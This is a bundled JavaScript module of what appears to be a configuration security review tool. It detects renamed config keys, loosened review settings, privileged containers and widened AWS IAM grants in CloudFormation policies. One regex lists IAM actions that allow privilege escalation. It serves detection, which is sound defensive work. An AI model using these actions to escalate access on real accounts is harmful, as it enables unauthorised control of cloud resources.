import { createRequire as __createRequire } from 'node:module';
const require = __createRequire(import.meta.url);
import {
  createScanner
} from "./chunk-3JUGGQP4.js";
import {
  rulesFor
} from "./chunk-OYZPJHLB.js";
import {
  SECRET_PATTERNS,
  isLogin,
  isReference,
  isSecretKey,
  maskSecrets
} from "./chunk-F33QB7R2.js";
import {
  distance
} from "./chunk-2OVJRVKG.js";
import {
  require_dist
} from "./chunk-JJ22DMJZ.js";
import {
  parsePairs,
  unreadableFact,
  unreadableRule
} from "./chunk-RJV7PKQA.js";
import {
  linesWith
} from "./chunk-AGHR5QJ7.js";
import {
  compare,
  gather,
  sharedLength
} from "./chunk-BICNWQS5.js";
import {
  capRisk,
  compareRisk,
  shiftRisk
} from "./chunk-ZUBX7SIF.js";
import {
  digest,
  shorten
} from "./chunk-TRV2GERW.js";
import {
  Unreadable,
  UserError,
  noneIfUnreadable
} from "./chunk-TGDLJCRC.js";
import {
  claims
} from "./chunk-NSVTU2Q2.js";
import {
  __toESM
} from "./chunk-5HJ3J6EK.js";

// src/domains/config/likeness.ts
var MOST_LEAVES = 500;
var cache = /* @__PURE__ */ new WeakMap();
function signature(node) {
  const tag = node.tag ?? "";
  if (node.kind === "scalar")
    return `${tag}${JSON.stringify(typeof node.value === "number" ? [node.text] : node.value)}`;
  if (node.kind === "list") return `${tag}[${node.items.map(signature).join()}]`;
  const entries = [...node.entries].map(([key3, value]) => `${JSON.stringify(key3)}:${signature(value)}`);
  return `${tag}{${entries.toSorted().join()}}`;
}
function isSameScalar(a, b) {
  if (a.tag !== b.tag || typeof a.value !== typeof b.value) return false;
  return typeof a.value === "number" ? a.text === b.text : a.value === b.value;
}
function likeness(a, b) {
  const [left, right] = [leavesOf(a), leavesOf(b)];
  let common = 0;
  for (const [leaf, count3] of left) common += Math.min(count3, right.get(leaf) ?? 0);
  const total = sum(left) + sum(right);
  return total === 0 ? 1 : 2 * common / total;
}
var sum = (leaves) => [...leaves.values()].reduce((total, count3) => total + count3, 0);
function leavesOf(root) {
  const known2 = cache.get(root);
  if (known2 !== void 0) return known2;
  const leaves = /* @__PURE__ */ new Map();
  const waiting = [["", root]];
  for (let next = waiting.pop(); next !== void 0 && leaves.size < MOST_LEAVES; next = waiting.pop()) {
    const [path27, node] = next;
    if (node.kind === "scalar") {
      const leaf = `${path27}=${node.text}`;
      leaves.set(leaf, (leaves.get(leaf) ?? 0) + 1);
    } else if (node.kind === "list") for (const item of node.items) waiting.push([`${path27}[]`, item]);
    else for (const [key3, value] of node.entries) waiting.push([`${path27}.${key3}`, value]);
  }
  cache.set(root, leaves);
  return leaves;
}

// src/domains/config/words.ts
var wordsOf = (name) => name.replace(/([a-z0-9])([A-Z])/g, "$1 $2").replace(/([A-Z]+)([A-Z][a-z])/g, "$1 $2").toLowerCase().split(/[^a-z0-9]+/).filter((word) => word !== "");
var NEGATIONS = /* @__PURE__ */ new Set([
  "disable",
  "disabled",
  "skip",
  "no",
  "not",
  "without",
  "ignore",
  "bypass",
  "exclude",
  "deny",
  "off",
  "non",
  "none",
  "anonymous",
  "guest",
  "empty"
]);
var isNegative = (name) => wordsOf(name).filter((word) => NEGATIONS.has(word)).length % 2 === 1;

// src/domains/config/readers/hint.ts
function noHint(error) {
  if (!(error instanceof Unreadable || error instanceof UserError)) throw error;
}
var hintIn = (tree, path27) => tree.read(path27).catch(noHint);

// src/domains/config/readers/evidence.ts
var noEvidence = () => void 0;
var LONGEST = 3e5;
var MOST_FILES = 200;
var NO_READER = /\.(?:md|mdx|rst|adoc|txt|json|lock|sum|csv|svg|html?|snap|golden)$/i;
var TEMPLATE = /(?:^|\/)templates\//;
async function evidenceIn({ changed: changed4, base, head }) {
  const readers = changed4.filter(isReader);
  if (readers.length === 0 || readers.length > MOST_FILES) return noEvidence;
  const swaps = await Promise.all(readers.map((file) => swapOf(file, base, head)));
  return (from3, to) => swaps.find(({ gone: gone3, come }) => holds(gone3, from3) && holds(come, to))?.path;
}
var isReader = ({ path: path27, status, special }) => (status === "modified" || status === "renamed") && special === void 0 && !NO_READER.test(path27) && (!claims(path27) || TEMPLATE.test(path27));
async function swapOf({ path: path27, previousPath }, base, head) {
  const [before3, after] = await Promise.all([namesIn(base, previousPath ?? path27), namesIn(head, path27)]);
  return { path: path27, gone: without(before3, after), come: without(after, before3) };
}
async function namesIn(tree, path27) {
  const text = await hintIn(tree, path27) ?? "";
  const written2 = text.length > LONGEST ? [] : text.match(/[\w-]+/g) ?? [];
  return new Set(written2.flatMap((name) => [name, folded(name)]));
}
var without = (names2, others) => new Set([...names2].filter((name) => !others.has(name)));
var folded = (name) => `~${wordsOf(name).join("")}`;
var holds = (names2, name) => names2.has(name) || names2.has(folded(name));

// src/domains/config/renames.ts
var RENAME = 0.7;
var MAYBE = 0.5;
var MARGIN = 0.1;
var EVIDENCE = 0.25;
var MOST_PAIRS = 2500;
var NO_MATCHES = { renamed: /* @__PURE__ */ new Map(), maybe: /* @__PURE__ */ new Map() };
var matchRenames = (removed2, added2) => matchKeys(removed2, added2).renamed;
function matchKeys(removed2, added2, evidence = noEvidence) {
  if (removed2.length === 0 || added2.length === 0 || removed2.length * added2.length > MOST_PAIRS) return NO_MATCHES;
  const scored = removed2.flatMap((old) => added2.map((now) => ({ from: old[0], to: now[0], score: scoreOf(old, now, evidence) }))).filter(({ score }) => score > MAYBE - MARGIN).toSorted((a, b) => b.score - a.score);
  const [renamed2, maybe] = [/* @__PURE__ */ new Map(), /* @__PURE__ */ new Map()];
  const taken = /* @__PURE__ */ new Set();
  for (const pair of scored.filter(({ score }) => score >= MAYBE)) {
    if (renamed2.has(pair.to) || taken.has(pair.from)) continue;
    const free = scored.filter(({ from: from3, to }) => !taken.has(from3) && !renamed2.has(to));
    taken.add(pair.from);
    if (free.some((other) => isRival(other, pair))) continue;
    if (pair.score >= RENAME) renamed2.set(pair.to, pair.from);
    else maybe.set(pair.from, pair.to);
  }
  return { renamed: renamed2, maybe };
}
var isRival = (other, pair) => other.from === pair.from !== (other.to === pair.to) && other.score > pair.score - MARGIN;
function scoreOf([oldName, old], [newName, now], evidence) {
  if (isNegative(oldName) !== isNegative(newName)) return 0;
  if (isRespelled(oldName, newName)) return 1 + valueScore(old, now);
  const own = 0.5 * nameScore(oldName, newName) + 0.5 * valueScore(old, now);
  return own < RENAME && old.kind === now.kind && evidence(oldName, newName) !== void 0 ? own + EVIDENCE : own;
}
var isRespelled = (a, b) => a !== b && wordsOf(a).join() === wordsOf(b).join();
function nameScore(a, b) {
  const [left, right] = [new Set(wordsOf(a)), new Set(wordsOf(b))];
  const shared2 = [...left].filter((word) => right.has(word)).length;
  const jaccard = shared2 / (left.size + right.size - shared2 || 1);
  const contained = shared2 > 0 && shared2 === Math.min(left.size, right.size) ? 0.8 : 0;
  return Math.max(jaccard, contained, 1 - distance2(a, b) / Math.max(a.length, b.length, 1));
}
function valueScore(a, b) {
  if (a.kind !== b.kind) return 0.1;
  if (a.kind !== "scalar" || b.kind !== "scalar") return likeness(a, b);
  if (a.text === b.text) return isTrivial(a.text) ? 0.6 : 1;
  return typeof a.value === typeof b.value ? 0.4 : 0.1;
}
var isTrivial = (text) => /^(?:|true|false|yes|no|on|off|null|~|-?\d{1,2}|\[\]|\{\})$/i.test(text);
var LONGEST_NAME = 64;
function distance2(a, b) {
  if (a.length > LONGEST_NAME || b.length > LONGEST_NAME) return Math.max(a.length, b.length);
  let row = Array.from({ length: b.length + 1 }, (_, i) => i);
  for (let i = 0; i < a.length; i++) {
    const next = [i + 1];
    for (let j = 0; j < b.length; j++)
      next.push(Math.min((row[j] ?? 0) + Number(a[i] !== b[j]), (row[j + 1] ?? 0) + 1, (next[j] ?? 0) + 1));
    row = next;
  }
  return row[b.length] ?? 0;
}

// src/domains/config/aggregate.ts
function aggregate(all) {
  const told5 = withoutImplied(withoutMirrored(withoutAliases(all)));
  return bornTogether(joined(respelledTogether(goneTogether(told5))));
}
function withoutAliases(facts) {
  const told5 = /* @__PURE__ */ new Set();
  return facts.filter((fact4) => {
    if (fact4.kind !== "control-moved" || fact4.after === void 0) return true;
    const { control: control2, key: key3, before: before3, after } = fact4;
    const same = JSON.stringify([control2, key3, before3?.path, before3?.line, after.path, after.line]);
    return !told5.has(same) && told5.add(same);
  });
}
function withoutMirrored(facts) {
  const opened2 = new Set(
    facts.flatMap((fact4) => isMoved(fact4, "open") && isNegative(fact4.name) ? [topicOf(fact4)] : [])
  );
  return facts.filter((fact4) => !isMoved(fact4, "drop") || isNegative(fact4.name) || !opened2.has(topicOf(fact4)));
}
var IMPLIED = /* @__PURE__ */ new Set(["config/host-pid", "config/host-ipc"]);
var OF_CONTAINER = /\.(?:\w*containers\[[^[\]]*\]\.securityContext\.)?privileged$/i;
function withoutImplied(facts) {
  const privileged = new Set(
    facts.flatMap(
      (fact4) => isMoved(fact4, "born") && fact4.control === "config/privileged-container" && fact4.condition === void 0 ? [`${fact4.after?.path} ${fact4.subject.replace(OF_CONTAINER, "")}`] : []
    )
  );
  const isImplied = (fact4) => isMoved(fact4, "born") && IMPLIED.has(fact4.control) && privileged.has(`${fact4.after?.path} ${fact4.subject.replace(/\.\w+$/, "")}`);
  return facts.filter((fact4) => !isImplied(fact4));
}
var isMoved = (fact4, transition) => fact4.kind === "control-moved" && fact4.transition === transition;
var SWITCHES = /* @__PURE__ */ new Set(["use", "uses", "using", "with", "is", "enable", "enabled", "require", "required"]);
function topicOf({ subject, name, after }) {
  const words2 = wordsOf(name).filter((word) => !SWITCHES.has(word) && !isNegative(word));
  return `${after?.path} ${subject.replace(/[^.]*$/, "")} ${words2.join(" ")}`;
}
function goneTogether(facts) {
  const lists = gather(facts, listOf);
  return facts.map((fact4) => {
    const list = listOf(fact4);
    const others = (lists.get(list)?.length ?? 1) - 1;
    return fact4.kind === "control-moved" && list !== void 0 && others > 0 ? { ...fact4, group: list, others } : fact4;
  });
}
var listOf = (fact4) => fact4.kind === "control-moved" && fact4.lostFrom !== void 0 ? `${fact4.control} ${fact4.lostFrom}` : void 0;
function bornTogether(facts) {
  const born = facts.flatMap(
    (fact4) => fact4.kind === "control-moved" && fact4.transition === "born" && fact4.group === void 0 ? [{ ...fact4, group: `new ${fact4.after?.path} ${ofDocument(fact4.subject)}` }] : []
  );
  const grouped = new Map(joined(born).map((fact4) => [`${causeOf(withoutGroup(fact4))} ${fact4.key}`, fact4]));
  return facts.map((fact4) => grouped.get(`${causeOf(fact4)} ${fact4.key}`) ?? fact4);
}
var ofDocument = (subject) => /^([^:]*): /.exec(subject)?.[1] ?? "";
function joined(facts) {
  const subjects = /* @__PURE__ */ new Map();
  for (const fact4 of facts) {
    const known2 = subjects.get(causeOf(fact4)) ?? /* @__PURE__ */ new Set();
    subjects.set(causeOf(fact4), known2.add(`${fact4.subject}#${fact4.key ?? ""}`));
  }
  const groups2 = new Map(
    [...subjects].flatMap(
      ([cause, places]) => places.size > 1 ? [[cause, digest([...places].toSorted().join("\n")).slice(0, 6)]] : []
    )
  );
  return facts.map((fact4) => {
    const places = groups2.get(causeOf(fact4));
    return places === void 0 ? withoutGroup(fact4) : { ...fact4, group: `${fact4.group ?? fact4.subject} in ${places}` };
  });
}
var RESPELLED = 3;
function respelledTogether(facts) {
  const respelled = facts.filter(isRespelling);
  const names2 = gather(respelled, ({ after }) => after?.path);
  const together2 = new Set(
    [...names2.values()].filter((some) => new Set(some.map(({ from: from3 }) => from3)).size >= RESPELLED).flat()
  );
  return facts.map((fact4) => together2.has(fact4) ? { ...fact4, group: `${fact4.after?.path}#respelled` } : fact4);
}
var isRespelling = (fact4) => fact4.kind === "key-renamed" && fact4.stillRead === void 0 && !fact4.isPublic && isRespelled(fact4.from, fact4.to);
var causeOf = (fact4) => `${fact4.kind} ${fact4.kind === "control-moved" ? fact4.control : ""} ${fact4.group ?? fact4.subject}`;
function withoutGroup(fact4) {
  const { group: _group, ...rest } = fact4;
  return rest;
}

// src/domains/config/area.ts
var TEST = /(?:^|[/_.-])(?:tests?|testing|testdata|test[-_]data|e2e|integration|examples?|samples?|demos?|docs?|fixtures?|mocks?|benchmarks?|hack|tutorials?|vendor|third_party|node_modules)(?:[/_.-]|$)/i;
var TESTS_ALONE = /(?:^|[/_.-])(?:tests?|testing|testdata|test[-_]data|e2e|integration|fixtures?|mocks?|benchmarks?)(?:[/_.-]|$)/i;
var CHART_TEST = /(?:^|\/)ci\/[\w.-]*values[\w.-]*\.ya?ml$/;
var PRODUCTION = /(?:^|[/_.-])(?:prod|production|prd|live)(?:[/_.-]|$)/i;
var EXPECTED = /(?:^|\/)(?:expected|goldens?|rendered|snapshots?|__snapshots?__)\//i;
var SUITE = /(?:^|\/)tests?\/(?:[\w.-]+\/)*[\w.-]+_test\.ya?ml$/;
var isExpected = (path27) => SUITE.test(path27) || CHART_TEST.test(path27) || EXPECTED.test(path27) && areaOf(path27) === "test";
var isTest = (path27) => TESTS_ALONE.test(path27);
var FOR_TESTS = /(?:^|\/)(?:__tests__|e2e|fixtures?|mocks?|test[-_]?data)\//i;
var isForTests = (path27) => FOR_TESTS.test(path27);
function areaOf(path27) {
  if (TEST.test(path27) || CHART_TEST.test(path27)) return "test";
  return PRODUCTION.test(path27) ? "production" : void 0;
}

// src/domains/config/setting.ts
var SWITCHES2 = /* @__PURE__ */ new Set(["enabled", "enable", "enforce", "enforced", "mode", "required", "active", "level", "type"]);
function nameOf(path27) {
  const [last, above] = [path27.at(-1), path27.at(-2)];
  if (last === void 0) return "";
  if (last.kind === "item") return last.name ?? nameOf(path27.slice(0, -1));
  if (above?.kind === "item" && last.name === "value") return above.name ?? last.name;
  return above !== void 0 && needsOwner(last.name) ? `${nameOf(path27.slice(0, -1))}.${last.name}` : unflagged(last.name);
}
var needsOwner = (name) => SWITCHES2.has(name.toLowerCase()) || /^\d+$/.test(name);
var COMMON = /^(?:cpu|memory|storage|ephemeral-storage|size|count|limit|min|max|host|port|path|url|address|user|name|key|value|version|timeout|interval|period|class|policy|strategy|provider)$/i;
function tellingName({ name, keys, path: path27 }) {
  const above = keys.at(-2);
  return above !== void 0 && path27.at(-1)?.kind === "key" && COMMON.test(name) ? `${above}.${name}` : name;
}
var unflagged = (name) => name.replace(/^-{1,2}(?:D(?=[a-z]))?/, "");
function displayPath(path27) {
  let shown4 = "";
  for (const step2 of path27) {
    if (step2.kind === "item") shown4 += `[${step2.label}]`;
    else shown4 += shown4 === "" ? step2.name : `.${step2.name}`;
  }
  return shown4;
}
function subjectOf(document, path27) {
  const shown4 = displayPath(path27);
  if (document.title === void 0) return shown4 === "" ? document.path : shown4;
  return shown4 === "" ? document.title : `${document.title}: ${shown4}`;
}
function placesOf(setting) {
  const { document, before: before3, after, ownerBefore, ownerAfter } = setting;
  const old = place(document.before?.path, before3 ?? (setting.owner === "kept" ? void 0 : ownerBefore));
  const now = place(document.after?.path, after ?? ownerAfter);
  return { ...old && before3 ? { before: old } : {}, ...now ? { after: now } : {} };
}
var place = (path27, node) => path27 === void 0 || node === void 0 ? void 0 : { path: path27, line: node.line, ...node.endLine > node.line ? { endLine: node.endLine } : {} };

// src/domains/config/context.ts
function contextOf({ dialect: dialect30, area, isPublic: isPublic2 }) {
  return {
    ...dialect30 === void 0 ? {} : { dialect: dialect30 },
    ...area === void 0 ? {} : { area },
    ...isPublic2 ? { isPublic: isPublic2 } : {}
  };
}
function whereabouts(setting, key3) {
  const { document, path: path27, keys } = setting;
  const subject = subjectOf(document, path27);
  const last = path27.at(-1);
  const tail2 = last?.kind === "item" ? `${keys.at(-1) ?? ""}[${last.label}]` : tailOf(setting);
  return {
    subject,
    key: key3,
    group: ofBothFamilies(`${tail2 || subject}#${key3}`),
    ...placesOf(setting),
    ...contextOf(document)
  };
}
var BY_IPV6 = /::\/0(?=(?: \([^)]*\))?$)/;
var ofBothFamilies = (group4) => BY_IPV6.test(group4) ? group4.replace(BY_IPV6, "0.0.0.0/0").replace(/v6|Ipv6(?=Cidr)/, "") : group4;
function tailOf({ keys, document: { dialect: dialect30 } }) {
  const list = dialect30 === void 0 ? void 0 : LISTS[dialect30];
  return keys.filter((_, i) => i !== 1 || keys.length === 2 || keys[0] !== list).slice(-2).join(".");
}
var LISTS = { compose: "services", "github-workflow": "jobs" };

// src/domains/config/fact-at.ts
function factAt(pair, path27, key3, { before: before3, after }) {
  const [old, now] = [place(pair.before?.path, before3), place(pair.after?.path, after)];
  return {
    subject: subjectOf(pair, path27),
    key: key3,
    ...contextOf(pair),
    ...old ? { before: old } : {},
    ...now ? { after: now } : {}
  };
}
var key = (name) => ({ kind: "key", name });

// src/domains/config/tree.ts
function at(node, ...keys) {
  let found = node;
  for (const key3 of keys) found = found?.kind === "map" ? found.entries.get(key3) : void 0;
  return found;
}
function textAt(node, ...keys) {
  const found = at(node, ...keys);
  return found?.kind === "scalar" && found.value !== null ? found.text : void 0;
}
function itemsAt(node, ...keys) {
  const found = at(node, ...keys);
  return found?.kind === "list" ? found.items : [];
}
var entriesOf = (node) => node?.kind === "map" ? [...node.entries] : [];
function textsOf(node) {
  if (node?.kind === "list") return node.items.flatMap(textsOf);
  return node?.kind === "scalar" && node.value !== null ? [node.text] : [];
}
var ON = /* @__PURE__ */ new Set(["true", "yes", "on", "enabled", "enable", "required", "strict", "1"]);
var OFF = /* @__PURE__ */ new Set(["false", "no", "off", "disabled", "disable", "none", "0"]);
function switchOf(node) {
  if (node?.kind !== "scalar") return void 0;
  const word = node.text.toLowerCase();
  return ON.has(word) || (OFF.has(word) ? false : void 0);
}
var isDynamic = (node) => node?.kind === "scalar" && (/\{\{|\$\{|\$\(|\$\[\[|^\$[A-Za-z_]|^(?:ENC\[|vault:|ref\+)/.test(node.text) || /^!(?:Ref|Sub|GetAtt|If|ImportValue|FindInMap|Join|Select|vault|reference|secret|env|Transform)\b/.test(
  node.tag ?? ""
));

// src/domains/config/own/settings.ts
var LOOSER = ["low", "medium", "high", "critical", "never"];
var rankOf = (text) => LOOSER.indexOf(text);
var LOOKS = [
  rises(["fail-on"], "high", rankOf),
  rises(["waivers", "max-days"], "180", Number),
  rises(["advisories", "fail-on"], "0", Number),
  becomes(["waivers", "from"], "head", "base"),
  becomes(["advisories", "source"], "off"),
  gains(["paths", "ignore"], "leaves out"),
  gains(["dependencies", "allow"], "lets in"),
  loses(["dependencies", "deny"], "no longer denies"),
  loses(["waivers", "unwaivable"], "now lets be waived"),
  shrinks(["dependencies", "policy"]),
  shrinks(["approvals"]),
  (before3, after) => entriesOf(at(after, "paths", "fail-on")).flatMap(
    ([glob]) => rises(["paths", "fail-on", glob], textAt(before3, "fail-on") ?? "high", rankOf)(before3, after)
  ),
  (before3, after) => entriesOf(at(after, "rules")).flatMap(
    ([name, node]) => textsOf(node)[0] === "off" && textAt(before3, "rules", name) !== "off" ? [{ keys: ["rules", name], how: "is switched off", values: [] }] : []
  )
];
function rises(keys, usual, rank2) {
  return (before3, after) => {
    const [was, is] = [textAt(before3, ...keys) ?? usual, textAt(after, ...keys) ?? usual];
    return rank2(is) > rank2(was) ? [{ keys, how: "goes from", values: [was, is] }] : [];
  };
}
function becomes(keys, loose, strict) {
  return (before3, after) => {
    const [was, is] = [textAt(before3, ...keys), textAt(after, ...keys)];
    const isLoose = is === loose || is === void 0 && strict !== void 0;
    const wasStrict = strict === void 0 ? was !== loose : was === strict;
    return isLoose && wasStrict ? [{ keys, how: "is now", values: [loose] }] : [];
  };
}
function gains(keys, verb) {
  return (before3, after) => listed(keys, verb, missingFrom(at(before3, ...keys), at(after, ...keys)));
}
function loses(keys, verb) {
  return (before3, after) => listed(keys, verb, missingFrom(at(after, ...keys), at(before3, ...keys)));
}
function shrinks(keys) {
  return (before3, after) => {
    const [was, is] = [itemsAt(before3, ...keys).length, itemsAt(after, ...keys).length];
    return is < was ? [{ keys, how: `has ${was - is} fewer ${was - is === 1 ? "entry" : "entries"}`, values: [] }] : [];
  };
}
var missingFrom = (one, other) => textsOf(other).filter((text) => !textsOf(one).includes(text));
var listed = (keys, how, values3) => values3.length === 0 ? [] : [{ keys, how, values: values3 }];
var nearestTo = (root, keys) => at(root, ...keys) ?? (keys.length === 0 ? root : nearestTo(root, keys.slice(0, -1)));
function reviewSettingsFacts(pair) {
  const [before3, after] = [pair.before?.root, pair.after?.root];
  if (before3 !== void 0 && after !== void 0 && signature(before3) === signature(after)) return [];
  const fact4 = (keys, way, said8 = WHOLE) => ({
    kind: "review-settings-changed",
    ...factAt(pair, keys.map(key), way, { before: at(before3, ...keys), after: after && nearestTo(after, keys) }),
    way,
    name: keys.join("."),
    ...said8
  });
  if (after === void 0) return [fact4([], "removed")];
  const looser = LOOKS.flatMap((look) => look(before3, after));
  if (looser.length > 0) return looser.map(({ keys, ...said8 }) => fact4(keys, "loosened", said8));
  return [fact4([], before3 === void 0 ? "new" : "edited")];
}
var WHOLE = { how: "", values: [] };

// src/domains/config/dialects/breakwater.ts
var SETTINGS = ".github/breakwater.yml";
var WAIVERS = ".github/breakwater-waivers.yml";
var breakwater_default = {
  name: "breakwater",
  recognises: ({ path: path27 }) => path27 === SETTINGS || path27 === WAIVERS,
  identity: ({ path: path27 }) => path27,
  owns: () => true,
  facts: (pairs) => pairs.filter(({ path: path27 }) => path27 === SETTINGS).flatMap(reviewSettingsFacts)
};

// src/domains/config/algebra/iam.ts
var MOST_COMPARISONS = 5e5;
function widened(base, head) {
  const known2 = base.flatMap(grantsOf);
  const same = new Set(known2.map(keyOf));
  const fresh = head.flatMap(grantsOf).filter((grant) => !same.has(keyOf(grant)));
  if (known2.length * fresh.length > MOST_COMPARISONS) return fresh;
  return fresh.filter((grant) => !known2.some((wider) => covers(wider, grant)));
}
var grantsOf = ({ principals, actions: actions2, resources, ...rest }) => principals.flatMap(
  (principal) => actions2.flatMap(
    (action2) => resources.map((resource3) => ({
      principal,
      action: action2,
      resource: resource3,
      condition: rest.condition,
      onDemand: rest.onDemand,
      line: rest.line
    }))
  )
);
var keyOf = ({ principal, action: action2, resource: resource3, condition: condition2 }) => JSON.stringify([principal, action2.toLowerCase(), resource3, condition2]);
var covers = (wider, grant) => (wider.condition === "" || wider.condition === grant.condition) && (wider.principal === "*" || wider.principal === "everybody" || wider.principal === grant.principal) && holds2(wider.action.toLowerCase(), grant.action.toLowerCase()) && holds2(wider.resource, grant.resource);
function holds2(outer, inner) {
  const [first = "", ...rest] = outer.split("*");
  const last = rest.pop();
  if (last === void 0) return outer === inner;
  if (inner.length < first.length + last.length || !inner.startsWith(first) || !inner.endsWith(last)) return false;
  return inOrder(rest, inner.slice(first.length, inner.length - last.length));
}
function inOrder(pieces, text) {
  let from3 = 0;
  return pieces.every((piece) => {
    const found = text.indexOf(piece, from3);
    from3 = found + piece.length;
    return found >= 0;
  });
}
var ESCALATES = /^(?:iam:(?:passrole|createuser|createrole|addusertogroup|create[a-z]*policy[a-z]*|attach[a-z]*policy|put[a-z]*policy|createaccesskey|createloginprofile|updateassumerolepolicy)|sts:assumerole|lambda:updatefunctioncode)$/;
var SERVICE = "Service ";
function powerOf({ principal, action: action2, resource: resource3, condition: condition2 }) {
  if (principal === "everybody") return condition2 === "" ? "public" : "plain";
  if (principal.startsWith(SERVICE)) return "plain";
  return resource3 === "*" ? powerOnAll(action2.toLowerCase()) : "plain";
}
function powerOnAll(action2) {
  if (["*", "*:*", "iam:*"].includes(action2)) return "admin";
  if (action2.endsWith(":*")) return "service";
  return ESCALATES.test(action2) ? "escalation" : "plain";
}

// src/domains/config/cloudformation/model.ts
function isTemplate({ root }) {
  if (at(root, "AWSTemplateFormatVersion") !== void 0) return true;
  const resources = entriesOf(at(root, "Resources"));
  return resources.length > 0 && resources.every(([, node]) => /^(?:AWS|Custom|Alexa)::/.test(textAt(node, "Type") ?? ""));
}
var resourcesOf = (document) => new Map(entriesOf(at(document?.root, "Resources")));
function isProperty(properties) {
  const rows = properties.map(([type, path27]) => ({ type, keys: path27.split(".") }));
  return ({ keys, path: path27, document }) => {
    if (keys[0] !== "Resources" || keys[2] !== "Properties" || path27.at(-1)?.kind === "item") return false;
    const root = document.after?.root ?? document.before?.root;
    const type = textAt(root, "Resources", keys[1] ?? "", "Type");
    return rows.some((row) => row.type === type && keys.length === 3 + row.keys.length && isBelow(keys, row.keys));
  };
}
var isBelow = (keys, below6) => below6.every((name, i) => name === "*" || keys[3 + i] === name);
function branchesOf(node) {
  const long = node?.kind === "map" && node.entries.size === 1 ? at(node, "Fn::If") : void 0;
  const asked4 = node?.kind === "list" && node.tag === "!If" ? node : long;
  if (asked4?.kind === "list") return asked4.items.slice(1).flatMap(branchesOf);
  return node === void 0 ? [] : [node];
}

// src/domains/config/cloudformation/statements.ts
function statementsOf(node, onDemand) {
  if (node === void 0 || node.kind === "scalar") return [];
  if (node.kind === "list") return node.items.flatMap((item) => statementsOf(item, onDemand));
  const given2 = at(node, "Statement");
  return [
    ...branchesOf(given2).flatMap((each) => statementsOfList(each, onDemand || each !== given2)),
    ...entriesOf(node).flatMap(([name, child]) => name === "Statement" ? [] : statementsOf(child, onDemand))
  ];
}
function statementsOfList(node, onDemand) {
  const items = node.kind === "list" ? node.items : [node];
  return items.flatMap(
    (item) => branchesOf(item).flatMap((branch) => statementOf(branch, onDemand || branch !== item))
  );
}
function statementOf(node, onDemand) {
  if (node.kind !== "map") return [];
  const condition2 = at(node, "Condition");
  return [
    {
      effect: textAt(node, "Effect") === "Deny" ? "Deny" : "Allow",
      principals: principalsOf(node),
      actions: listed2(node, "Action", "NotAction"),
      resources: listed2(node, "Resource", "NotResource"),
      condition: condition2 === void 0 ? "" : signature(condition2),
      onDemand,
      line: node.line
    }
  ];
}
function principalsOf(node) {
  if (at(node, "NotPrincipal") !== void 0) return ["everybody"];
  const principal = at(node, "Principal");
  if (principal === void 0) return ["*"];
  if (principal.kind !== "map") return textsOf(principal).map((text) => text === "*" ? "everybody" : text);
  return [...principal.entries].flatMap(
    ([kind, names2]) => valuesOf(names2).map((text) => text === "*" && kind === "AWS" ? "everybody" : `${kind} ${oneName(text)}`)
  );
}
var oneName = (text) => text.replace(/\$\{AWS::URLSuffix\}|amazonaws\.com\.cn$/, "amazonaws.com").replace(/^(?:!Sub )?([a-z.-]+?)(?:\.\$\{AWS::Region\}|\.[a-z]{2}-[a-z]+-\d)?(?=\.amazonaws\.com$)/, "$1");
function listed2(node, name, inverse2) {
  const values3 = valuesOf(at(node, name));
  if (values3.length > 0) return values3;
  return at(node, inverse2) === void 0 ? ["*"] : [`* but ${valuesOf(at(node, inverse2)).toSorted().join(", ")}`];
}
function valuesOf(node) {
  if (node === void 0) return [];
  if (node.kind === "list" && node.tag === void 0) return node.items.flatMap(valuesOf);
  const [tag, filled] = node.kind === "map" ? longForm(node) : [node.tag, node];
  if (filled.kind === "scalar") return [[tag, filled.text].filter(Boolean).join(" ")];
  return [tag === "!GetAtt" ? `${tag} ${textsOf(filled).join(".")}` : signature(filled)];
}
function longForm(node) {
  const [[name, inner] = []] = node.entries;
  const isFunction = node.entries.size === 1 && name !== void 0 && /^(?:Ref|Fn::\w+)$/.test(name);
  return isFunction && inner !== void 0 ? [`!${name.replace("Fn::", "")}`, inner] : [node.tag, node];
}

// src/domains/config/cloudformation/policies.ts
var TRUST = /* @__PURE__ */ new Set(["AssumeRolePolicyDocument"]);
var POLICIES = /* @__PURE__ */ new Set([
  "PolicyDocument",
  "KeyPolicy",
  "Policies",
  "ResourcePolicy",
  "RepositoryPolicyText",
  ...TRUST
]);
var isPolicySetting = ({ keys }) => keys[0] === "Resources" && keys[2] === "Properties" && POLICIES.has(keys[3] ?? "");
function policyFacts(pair) {
  const [old, now] = [resourcesOf(pair.before), resourcesOf(pair.after)];
  const gone3 = [...old].flatMap(([name, node]) => now.has(name) ? [] : [node]);
  return [...now].flatMap(([name, after]) => {
    const before3 = old.get(name);
    const alike = before3 === void 0 ? gone3.filter((node) => textAt(node, "Type") === textAt(after, "Type")) : [];
    const kinds = [...POLICIES].filter((property) => at(after, "Properties", property) !== void 0);
    return kinds.flatMap(
      (property) => compareDocuments({
        pair,
        name,
        path: pathTo(name, property),
        before: at(before3, "Properties", property),
        after: at(after, "Properties", property),
        isNew: before3 === void 0,
        merged: alike.flatMap((node) => at(node, "Properties", property) ?? []),
        isGate: textAt(after, "Type") === GATE,
        onDemand: at(after, "Condition") !== void 0
      })
    );
  });
}
var GATE = "AWS::EC2::VPCEndpoint";
var comparePolicies = (pair, { name, path: path27 }, before3, after) => compareDocuments({ pair, name, path: path27, before: before3, after, isNew: pair.before === void 0 });
function compareDocuments(documents2) {
  const { pair, name, path: path27, before: before3, after, isNew, merged = [] } = documents2;
  const base = [before3, ...merged].flatMap((node) => statementsOf(node, false));
  const head = statementsOf(after, documents2.onDemand === true);
  const gained = widened(allowed(base), allowed(head));
  const freed = isNew ? [] : widened(denied(head), denied(base)).filter((grant) => !isStillDenied(grant, denied(head)));
  const [worst] = [...gained].toSorted((a, b) => rankOf2(a) - rankOf2(b));
  if (worst !== void 0) {
    const by = allowed(base).some((statement) => bindsTo(worst, statement)) ? "condition" : "grant";
    return [widening(documents2, worst, { by, gained: gained.length })];
  }
  const [lifted] = freed;
  if (lifted !== void 0) return [widening(documents2, lifted, { by: "deny", gained: freed.length })];
  const lost = isNew ? [] : [...widened(allowed(head), allowed(base)), ...widened(denied(base), denied(head))];
  const where = factAt(pair, path27.map(key), "narrowed", { before: before3, after });
  return lost.length === 0 ? [] : [{ kind: "policy-narrowed", ...where, resource: name, lost: lost.length }];
}
var bindsTo = ({ principal, action: action2, resource: resource3, condition: condition2 }, statement) => condition2 === "" && statement.condition !== "" && statement.principals.includes(principal) && statement.actions.includes(action2) && statement.resources.includes(resource3);
